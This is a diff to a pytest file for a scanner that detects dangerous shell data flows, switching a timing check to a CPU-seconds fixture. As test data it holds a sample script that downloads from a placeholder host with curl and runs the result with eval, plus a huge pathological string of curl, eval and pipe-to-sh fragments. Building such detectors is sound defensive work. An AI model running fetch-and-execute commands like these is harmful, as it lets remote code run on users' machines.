@@ -3,7 +3,6 @@ a download run later, or credentials sent out later, through a variable or a fil
 
 from __future__ import annotations
 
-import time
 
 import pytest
 
@@ -99,14 +98,12 @@ def test_look_alikes_have_no_flow(script):
     assert _scan(script) == []
 
 
-def test_a_broken_or_hostile_script_neither_crashes_nor_hangs():
+def test_a_broken_or_hostile_script_neither_crashes_nor_hangs(cpu_seconds):
     # under the 512 KiB cut, so the reader really reads it: deep nesting, unclosed quotes, a huge pipeline
     hostile = ("x=$(curl " + "\"$(" * 20000 + "\n" + "echo '" * 20000 + "\n" + ("a=\"$b\" | sh " * 10000) + "\n"
                + "eval $(" * 10000 + "\n" + "curl -o f u; " * 10000)
     assert 400_000 < len(hostile) < 512 * 1024
-    start = time.perf_counter()
-    flows("shell", hostile)
-    assert time.perf_counter() - start < 2.0
+    assert cpu_seconds(lambda: flows("shell", hostile)) < 2.0
     # an unclosed quote on one line does not hide the flow on the lines after it
     script = "echo 'unclosed\np=$(curl -s https://x.example.test/p)\neval \"$p\"\n"
     assert [(f.line, f.source_line) for f in flows("shell", script)] == [(3, 2)]
